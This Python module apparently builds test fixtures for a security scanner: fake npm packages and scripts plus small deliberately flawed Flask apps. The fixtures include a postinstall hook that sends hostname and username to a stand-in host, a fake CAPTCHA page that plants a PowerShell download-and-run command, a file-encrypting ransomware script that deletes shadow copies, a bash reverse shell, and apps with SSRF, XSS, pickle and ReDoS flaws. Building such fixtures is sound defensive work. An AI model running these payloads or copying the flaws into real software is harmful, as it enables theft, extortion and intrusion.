"""Made-up things to judge, and small programs with one weakness each."""

from __future__ import annotations

import base64
import io
import json
import tarfile
import zipfile
from typing import Final

PLACE: Final = "bad-cdn.invalid"


def npm(name: str, version: str, scripts: dict[str, str], files: dict[str, str]) -> bytes:
    """Pack a package as npm does."""
    about = json.dumps({"name": name, "version": version, "scripts": scripts, "main": "index.js"}, indent=1)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in {"package.json": about, **files}.items():
            entry = tarfile.TarInfo(f"package/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return packed.getvalue()


def native_package() -> bytes:
    """Compile a part of its own on install: much used packages do."""
    return npm(
        "fast-blur",
        "2.1.0",
        {"install": "node-gyp rebuild"},
        {"index.js": "module.exports = require('./build/blur');\n"},
    )


def telemetry_package() -> bytes:
    """Tell its makers on install which machine it is on."""
    script = (
        "const os = require('os'), https = require('https');\n"
        f"const r = https.request({{ hostname: 'stats.{PLACE}', method: 'POST' }});\n"
        "r.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })); r.end();\n"
    )
    return npm("left-align", "1.0.4", {"postinstall": "node tell.js"}, {"tell.js": script, "index.js": ""})


def locked_zip() -> bytes:
    """Set the bit that says that members are encrypted; nobody has the word."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("rechnung.js", "x" * 400)
    data = bytearray(packed.getvalue())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def paste_page() -> bytes:
    """Ask a visitor to paste a command."""
    command = f"powershell -w hidden -c iwr http://{PLACE}/v.ps1 | iex"
    return (
        '<html><body><h1>Verify you are human</h1><button onclick="go()">I am not a robot</button>\n'
        "<p>Press Windows + R, then Ctrl + V, then Enter.</p>\n"
        f"<script>function go() {{ navigator.clipboard.writeText('{command}'); }}</script></body></html>\n"
    ).encode()


def locker() -> bytes:
    """Encrypt every file of a home and delete what would help."""
    return (
        b"import os, subprocess\nfrom cryptography.fernet import Fernet\n"
        b"subprocess.run('vssadmin delete shadows /all /quiet', shell=True)\n"
        b"key = Fernet(Fernet.generate_key())\n"
        b"for folder, _, names in os.walk(os.path.expanduser('~')):\n"
        b"    for name in names:\n        path = os.path.join(folder, name)\n"
        b"        data = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(data))\n"
    )


def shell_back() -> bytes:
    """Give somebody else a shell."""
    return b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n"


def hidden_script() -> bytes:
    """Run text that lies in the file under an encoding, and only that."""
    inner = base64.b64encode(b"print('hello')\n").decode()
    return f"import base64\nexec(base64.b64decode('{inner}'))\n".encode()


def harmless() -> bytes:
    """Rotate old files."""
    return b"#!/bin/sh\nset -e\nfind /var/backups/clinic -name '*.gz' -mtime +30 -print\necho done\n"


FLASK: Final = "from flask import Flask, request\napp = Flask(__name__)\n\n\n"
PROGRAMS: Final = {
    "scan-secret": {
        "settings.py": "AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzKEY'\n"
        "DB_PASSWORD = 'Sommer2026!klinik'\n"
    },
    "scan-ssrf": {
        "fetch.py": f"import requests\n{FLASK}"
        "@app.get('/preview')\n"
        "def preview():\n    return requests.get(request.args['url'], timeout=5).text\n"
    },
    "scan-visitors": {
        "guestbook.py": f"{FLASK}"
        "@app.get('/hello')\ndef hello():\n"
        "    return '<h1>Hello ' + request.args['name'] + '</h1>'\n"
    },
    "scan-crypto": {
        "store.py": "import hashlib\nimport ssl\nimport requests\n\n\ndef keep(password: str) -> str:\n"
        "    return hashlib.md5(password.encode()).hexdigest()\n\n\ndef send(data):\n"
        "    return requests.post('https://lab.example/api', json=data, verify=False, timeout=5)\n"
    },
    "scan-pickle": {
        "worker.py": f"import pickle\n{FLASK}"
        "@app.post('/job')\ndef job():\n"
        "    return str(pickle.loads(request.data))\n"
    },
    "scan-slow": {
        "check.py": f"import re\n{FLASK}"
        "@app.get('/mail')\ndef mail():\n"
        "    return str(bool(re.match(r'^(a+)+$', request.args['m'])))\n"
    },
    "scan-clean": {
        "clean.py": "import sqlite3\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n"
        "@app.get('/item')\ndef item():\n"
        "    base = sqlite3.connect('shop.db')\n"
        "    rows = base.execute('select * from item where name = ?', (request.args['name'],))\n"
        "    return str(rows.fetchall())\n"
    },
    "scan-nothing": {
        "totals.py": "def total(prices: list[float]) -> float:\n    return round(sum(prices), 2)\n"
    },
    "scan-partial": {
        "good.py": "print('hello')\n",
        "broken.py": "def broken(:\n    pass\n" * 3 + "\x00",
    },
    "scan-settings": {
        "run.py": f"{FLASK}if __name__ == '__main__':\n    app.run(host='0.0.0.0', debug=True)\n"
    },
}
"""By the name of their case: files and their text."""
